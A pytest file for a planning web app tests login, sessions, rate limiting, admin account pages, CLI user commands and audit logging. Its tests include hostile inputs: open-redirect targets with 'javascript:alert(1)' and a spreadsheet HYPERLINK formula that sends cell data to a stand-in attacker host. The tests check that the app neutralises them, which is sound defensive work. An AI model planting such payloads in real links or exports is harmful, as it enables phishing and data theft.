"""Accounts, the login, sessions, the admin pages, ``planner user`` and the audit log.
Real accounts in the test database, real password hashes, the real login form."""

from __future__ import annotations

import re

import pytest

from planner import accounts, audit
from planner.extensions import db
from planner.models import AuditEvent, User

PW = "kata-sandi-panjang-1"


def events(app, action=None):
    with app.app_context():
        q = db.session.query(AuditEvent)
        if action:
            q = q.filter_by(action=action)
        return [(e.actor, e.action, e.target, e.before, e.after) for e in q.order_by(AuditEvent.id)]


def new_user(app, name="budi", role="coordinator", team=None, password=PW):
    with app.app_context(), audit.acting_as(None, "test"):
        return accounts.create(name, password, role, team=team).id


def login(client, name, password=PW, **extra):
    return client.post("/masuk", data={"username": name, "password": password, **extra})


# --------------------------------------------------------------------------- login
def test_login_logout_and_the_session_cookie(app, client_as):
    new_user(app)
    c = client_as(app, None)
    assert c.get("/").headers["Location"].startswith("/masuk?next=")
    r = login(c, "budi", "salah-sekali-ini")
    assert r.status_code == 401 and "Nama pengguna atau kata sandi salah" in r.get_data(as_text=True)
    r = login(c, "Budi", PW, next="/peta")  # usernames are not case-sensitive
    assert r.status_code == 302 and r.headers["Location"] == "/peta"
    cookie = r.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Expires=" in cookie
    assert c.get("/").status_code == 200
    assert c.post("/keluar").headers["Location"] == "/masuk"
    assert c.get("/").status_code == 302
    assert [e[1] for e in events(app) if e[1].startswith(("login", "logout"))] == [
        "login.failed", "login.ok", "logout"]
    assert events(app, "login.failed")[0][2] == "user budi"


@pytest.mark.parametrize("target", ["https://evil.example/x", "//evil.example", "javascript:alert(1)",
                                    "peta"])
def test_no_open_redirect_after_login(app, client_as, target):
    new_user(app)
    r = login(client_as(app, None), "budi", next=target)
    assert r.status_code == 302 and r.headers["Location"] == "/"


def test_secure_cookie_behind_https(tmp_path, make_app, client_as):
    app = make_app(tmp_path, SESSION_COOKIE_SECURE=True)
    new_user(app)
    r = login(client_as(app, None), "budi")
    assert "Secure" in r.headers["Set-Cookie"]


def test_login_attempts_are_rate_limited(tmp_path, make_app, client_as):
    app = make_app(tmp_path, RATELIMIT_ENABLED=True, LOGIN_RATE_LIMIT="3 per minute")
    new_user(app)
    c = client_as(app, None)
    codes = [login(c, "budi", "salah-salah-salah").status_code for _ in range(4)]
    assert codes == [401, 401, 401, 429]
    r = login(c, "budi")  # even the right password waits
    assert r.status_code == 429 and "Terlalu banyak percobaan" in r.get_data(as_text=True)


def test_disabled_account_and_changed_password_end_sessions(app, client_as):
    uid = new_user(app)
    c = client_as(app, None)
    login(c, "budi")
    assert c.get("/").status_code == 200
    with app.app_context():
        accounts.set_password(db.session.get(User, uid), "kata-sandi-baru-2")
    assert c.get("/").status_code == 302  # the old session ended
    assert login(c, "budi").status_code == 401
    assert login(c, "budi", "kata-sandi-baru-2").status_code == 302
    with app.app_context():
        accounts.update(db.session.get(User, uid), active=False)
    assert c.get("/").status_code == 302
    assert login(c, "budi", "kata-sandi-baru-2").status_code == 401


def test_changing_ones_own_password(app, client_as):
    new_user(app)
    c = client_as(app, None)
    login(c, "budi")
    other = client_as(app, None)
    login(other, "budi")
    r = c.post("/akun/sandi", data={"current": "salah-salah-1", "new": "baru-baru-baru-1",
                                    "confirm": "baru-baru-baru-1"})
    assert r.status_code == 400 and "Kata sandi sekarang salah" in r.get_data(as_text=True)
    r = c.post("/akun/sandi", data={"current": PW, "new": "pendek", "confirm": "pendek"})
    assert r.status_code == 400 and "minimal 10 karakter" in r.get_data(as_text=True)
    r = c.post("/akun/sandi", data={"current": PW, "new": "baru-baru-baru-1",
                                    "confirm": "baru-baru-baru-1"})
    assert r.status_code == 302
    assert c.get("/").status_code == 200       # this session continues
    assert other.get("/").status_code == 302   # the other one ended
    with app.app_context():
        assert accounts.authenticate("budi", "baru-baru-baru-1") is not None
        row = accounts.by_username("budi")
        assert row.password_hash.startswith("scrypt:") and "baru" not in row.password_hash


def test_roles_and_team_leads_need_what_they_need(app):
    with app.app_context():
        with pytest.raises(accounts.AccountError, match="Peran tidak dikenal"):
            accounts.create("x-user", PW, "superuser")
        with pytest.raises(accounts.AccountError, match="nama timnya"):
            accounts.create("x-user", PW, "team_lead")
        with pytest.raises(accounts.AccountError, match="minimal 10"):
            accounts.create("x-user", "pendek", "viewer")
        with pytest.raises(accounts.AccountError, match="Nama pengguna"):
            accounts.create("<b>x</b>", PW, "viewer")
        accounts.create("satu", PW, "viewer")
        with pytest.raises(accounts.AccountError, match="sudah dipakai"):
            accounts.create("SATU", PW, "viewer")
        assert db.session.query(User).count() == 1  # only "satu": nothing half-created


# --------------------------------------------------------------------------- admin pages
def test_admin_creates_accounts_and_resets_passwords(app, client_as):
    admin = client_as(app, "admin")
    r = admin.post("/admin/pengguna", data={"username": "siti", "role": "team_lead",
                                            "team": "Tim 1"})
    assert r.status_code == 200 and r.headers["Cache-Control"] == "no-store"
    password = re.search(r'<span class="secret">([^<]+)</span>', r.get_data(as_text=True)).group(1)
    assert "secret" not in admin.get("/admin/pengguna").get_data(as_text=True).split("<main>")[1][:400]
    c = client_as(app, None)
    assert login(c, "siti", password).headers["Location"] == "/rencana"  # a team lead's home
    with app.app_context():
        siti = accounts.by_username("siti")
        assert (siti.role, siti.team) == ("team_lead", "Tim 1")
        sid = siti.id
    r = admin.post(f"/admin/pengguna/{sid}/sandi")
    new_password = re.search(r'<span class="secret">([^<]+)</span>', r.get_data(as_text=True)).group(1)
    assert new_password != password
    assert c.get("/rencana").status_code == 302  # her session ended
    assert login(client_as(app, None), "siti", new_password).status_code == 302
    r = admin.post(f"/admin/pengguna/{sid}", data={f"u{sid}-role": "viewer", f"u{sid}-team": "",
                                                  f"u{sid}-active": "y"})
    assert r.status_code == 302
    with app.app_context():
        assert accounts.by_username("siti").role == "viewer"
    ev = events(app, "user.update")[-1]
    assert ev[3] == {"role": "team_lead", "team": "Tim 1"} and ev[4] == {"role": "viewer", "team": None}
    assert [e[1] for e in events(app) if e[2] == "user siti"] == [
        "user.create", "login.ok", "user.password", "login.ok", "user.update"]
    # the last active admin cannot be demoted or disabled
    with app.app_context():
        me = accounts.by_username(admin.user)
        with pytest.raises(accounts.AccountError, match="admin terakhir"):
            accounts.update(me, active=False)


def test_audit_page_filters_and_exports_inert_csv(app, client_as):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    with app.app_context(), audit.acting_as(None, "uji"):
        audit.record("import.recap", hostile, after={"name": hostile})
        audit.record("plan.create", "plan 1 v1", after={"people": 10})
        db.session.commit()
    admin = client_as(app, "admin")
    page = admin.get("/admin/audit?action=plan").get_data(as_text=True)
    assert "plan 1 v1" in page and "evil.example" not in page
    page = admin.get("/admin/audit?actor=uji").get_data(as_text=True)
    assert page.count('data-action="') == 2
    assert "=HYPERLINK" in page and "<script" not in page.split("<main>")[1]
    csv_text = admin.get("/admin/audit.csv?actor=uji").get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text
    assert not re.search(r'(^|,)"?[=+@-]HYPERLINK', csv_text, re.M)


# --------------------------------------------------------------------------- CLI
def test_init_db_creates_the_first_admin_once(tmp_path):
    from planner import create_app

    app = create_app({"TESTING": True, "SECRET_KEY": "x",
                      "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'fresh.sqlite'}"})
    runner = app.test_cli_runner()
    r = runner.invoke(args=["init-db"])
    assert r.exit_code == 0, r.output
    password = re.search(r"password: (\S+)", r.output).group(1)
    assert "user:     admin" in r.output and len(password) >= 16
    with app.app_context():
        assert accounts.authenticate("admin", password).role == "admin"
    again = runner.invoke(args=["init-db"])
    assert again.exit_code == 0 and "password" not in again.output
    with app.app_context():
        db.engine.dispose()


def test_user_commands(app, runner):
    r = runner.invoke(args=["user", "create", "andi", "--role", "coordinator", "--generate-password"])
    assert r.exit_code == 0, r.output
    password = re.search(r"once\): (\S+)", r.output).group(1)
    with app.app_context():
        assert accounts.authenticate("andi", password) is not None
    r = runner.invoke(args=["user", "create", "andi", "--role", "viewer", "--generate-password"])
    assert r.exit_code == 1 and "sudah dipakai" in r.output
    r = runner.invoke(args=["user", "set-role", "andi", "team_lead", "--team", "Tim 2"])
    assert r.exit_code == 0 and "team_lead" in r.output
    r = runner.invoke(args=["user", "set-password", "andi"], input="sandi-baru-andi-1\nsandi-baru-andi-1\n")
    assert r.exit_code == 0, r.output
    r = runner.invoke(args=["user", "disable", "andi"])
    assert r.exit_code == 0
    listing = runner.invoke(args=["user", "list"]).output
    assert re.search(r"andi\s+team_lead\s+disabled", listing)
    r = runner.invoke(args=["user", "disable", "nobody"])
    assert r.exit_code == 1 and "No account named" in r.output
    actors = {e[0] for e in events(app) if e[2] == "user andi"}
    assert len(actors) == 1 and next(iter(actors)).startswith("cli:")
    assert [e[1] for e in events(app) if e[2] == "user andi"] == [
        "user.create", "user.update", "user.password", "user.update"]


# --------------------------------------------------------------------------- audit of changes
def test_results_and_plans_are_audited_with_who(tiny_app, client_as, solve_via_form):
    coord = client_as(tiny_app, "coordinator")
    job_id = solve_via_form(coord, days="1")
    with tiny_app.app_context():
        from planner import plan_json
        from planner.models import PlanJob

        plan_id = db.session.get(PlanJob, job_id).plan_id
        from planner import plan_store

        v = plan_store.latest_version(plan_id)
        td = plan_json.team_days(v.result)[0]
    r = coord.post(f"/rencana/{plan_id}/v1/hasil?team={td.team_name}&day={td.date}",
                   data={"outcome-0": "partly", "actual-0": "5"})
    assert r.status_code == 302, r.get_data(as_text=True)[:500]
    (actor, action, target, before, after), = events(tiny_app, "results.record")
    key = f"{td.team_name} {td.date} {td.stops[0]['site_code']}"
    assert (actor, target) == (coord.user, f"plan {plan_id} v1")
    assert before == {key: None} and after == {key: {"recorded": 5, "outcome": "partly", "reason": None}}
    assert events(tiny_app, "plan.create")[0][0] == coord.user


def test_imports_are_audited_in_their_transaction(app, client_as, demo_data_dir):
    coord = client_as(app, "coordinator")
    with open(demo_data_dir / "demo_villages.geojson", "rb") as fh:
        r = coord.post("/impor/batas", data={"v-file": (fh, "desa.geojson"), "v-fictional": "y"},
                       content_type="multipart/form-data")
    assert r.status_code == 302, r.get_data(as_text=True)[:300]
    with open(demo_data_dir / "demo_recap.csv", "rb") as fh:
        r = coord.post("/impor/rekap", data={"r-file": (fh, "rekap.csv")},
                       content_type="multipart/form-data")
    assert r.status_code == 302, r.get_data(as_text=True)[:300]
    (v,), (rc,) = events(app, "import.villages"), events(app, "import.recap")
    assert v[0] == rc[0] == coord.user
    assert v[2] == "desa.geojson" and v[4]["villages"] == 185 and v[4]["created"] == 185
    assert rc[2] == "rekap.csv" and rc[4]["population"] == 443_033
    # a refused file leaves no event (and no data)
    with open(demo_data_dir / "demo_villages.geojson", "rb") as fh:
        coord.post("/impor/rekap", data={"r-file": (fh, "salah.csv")},
                   content_type="multipart/form-data")
    assert len(events(app, "import.recap")) == 1
